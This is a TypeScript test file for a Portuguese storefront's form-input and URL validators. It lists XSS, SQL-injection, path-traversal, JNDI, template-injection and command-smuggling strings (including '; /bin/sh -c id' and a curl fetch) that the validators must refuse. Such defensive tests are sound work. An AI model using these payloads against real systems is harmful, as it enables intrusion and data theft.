import { describe, expect, test } from 'vitest'
import { validTexts } from '#test/valid-texts'
import { freeTextErrors as words } from '#texts/storefront/free-text'
import { freeTextSchema, getFreeTextError, isWebUrl, maxInputLength, webUrlSchema } from './free-text.ts'

const says = (schema: ReturnType<typeof freeTextSchema>, text: unknown): string[] =>
  schema.safeParse(text).error?.issues.map(({ message }) => message) ?? []

describe('[VA-09] markup in a form field', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//x>',
    '</script',
    'Ana <img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="https://x.test">',
    '<a href="javascript:alert(1)">aqui</a>',
    '<b>forte</b>',
    '<p class=x>',
    '<a\nhref=//x.test',
    '<style>*{display:none}',
    '<!-- fim -->',
    '<?php echo 1',
    '<math\n><mi',
    '<input',
  ])('refuses: %s', (typed) => {
    expect(getFreeTextError('Mensagem', words, typed)).toBe('Campo Mensagem contém conteúdo não permitido')
  })
})

describe('[VA-10] SQL in a form field', () => {
  test.each([
    "' OR 1=1 --",
    "' or 'a'='a",
    '" or ""="',
    "x') or ('1'='1",
    '1 UNION SELECT senha FROM usuarios',
    'union all\n select null',
    '1 union select 1, 2',
    'x union select null',
    "'; DROP TABLE clientes; --",
    'truncate   table pedidos',
    'DELETE FROM pedidos',
    "insert into usuarios values ('x')",
    'select * from usuarios',
    'SELECT senha FROM usuarios',
    'update usuarios set papel = 1',
    "admin'--",
    "admin' #",
    "1; waitfor delay '0:0:5'",
    '1 and sleep(5)',
    "';select pg_sleep(10)",
    'or 1=1',
    'from information_schema.tables',
  ])('refuses: %s', (typed) => {
    expect(getFreeTextError('Nome', words, typed)).toBe('Campo Nome contém padrões suspeitos')
  })
})

describe('[VA-11] malicious input in a form field', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt: document.title(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'x onerror=alert(1)',
    'onmouseover = roubar()',
    'document.cookie',
    'eval(atob("x"))',
    '../../../etc/passwd',
    '..\\..\\windows',
    'file:///c:/x',
    '${jndi:ldap://x.test/a}',
    '{{7*7}}',
    '{{constructor.constructor("x")()}}',
    'nome%00.jpg',
    '%3Cscript%3E',
    '&#60;script',
    '\\u003cscript',
    'curl -s http://x.test',
    '; /bin/sh -c id',
  ])('refuses: %s', (typed) => {
    expect(getFreeTextError('Interesse', words, typed)).toBe(
      'Campo Interesse contém padrões maliciosos detectados',
    )
  })
})

describe('text in a form field', () => {
  test('[VA-12] is refused beyond 10,000 characters without further checks', () => {
    const most = 'a'.repeat(maxInputLength)
    expect(maxInputLength).toBe(10_000)
    expect(getFreeTextError('Mensagem', words, most)).toBeUndefined()
    expect(getFreeTextError('Mensagem', words, `${most}a`)).toBe('Campo Mensagem é muito longo')
    expect(says(freeTextSchema('Mensagem', words, { max: 20_000 }), `${most}a`)).toEqual([
      'Campo Mensagem é muito longo',
    ])
  })

  test('[VA-08] allows 0 to 1,000 trimmed characters by default', () => {
    const usual = freeTextSchema('Mensagem', words)
    expect(usual.parse('')).toBe('')
    expect(usual.parse(`  ${'a'.repeat(1_000)}\n`)).toHaveLength(1_000)
    expect(says(usual, 'a'.repeat(1_001))).toEqual(['Campo Mensagem é muito longo'])
    expect(says(freeTextSchema('Nome', words, { min: 2, max: 4, short: 'curto' }), ' a ')).toEqual(['curto'])
    expect(says(freeTextSchema('Nome', words, { max: 4 }), 'cinco')).toEqual(['Campo Nome é muito longo'])
    expect(says(freeTextSchema('Nome', words), 7)).toHaveLength(1)
  })

  test('[VA-14] accepts ordinary Portuguese: 500 names, addresses and sentences', () => {
    expect(new Set(validTexts).size).toBeGreaterThanOrEqual(500)
    expect(validTexts.flatMap((text) => (getFreeTextError('Texto', words, text) ? [text] : []))).toEqual([])
    expect(validTexts.map((text) => freeTextSchema('Texto', words).parse(text))).toEqual(validTexts)
  })
})

describe('[VA-07] a web URL', () => {
  test.each([
    'https://dao.com.br',
    'http://exemplo.com/caminho?x=1#y',
    'HTTPS://Exemplo.com',
    'https://á.com.br',
  ])('accepts %s', (typed) => {
    expect(isWebUrl(typed)).toBe(true)
    expect(webUrlSchema('não é').parse(` ${typed} `)).toBe(new URL(typed).href)
  })

  test.each([
    'javascript:alert(1)',
    'ftp://exemplo.com',
    'mailto:ana@exemplo.com.br',
    'data:text/html,x',
    'file:///etc/hosts',
    '//exemplo.com',
    'exemplo.com',
    'https://',
    'https://ana:senha@exemplo.com',
    '',
  ])('refuses %s', (typed) => {
    expect(isWebUrl(typed)).toBe(false)
    expect(webUrlSchema('não é').safeParse(typed).success).toBe(false)
  })
})
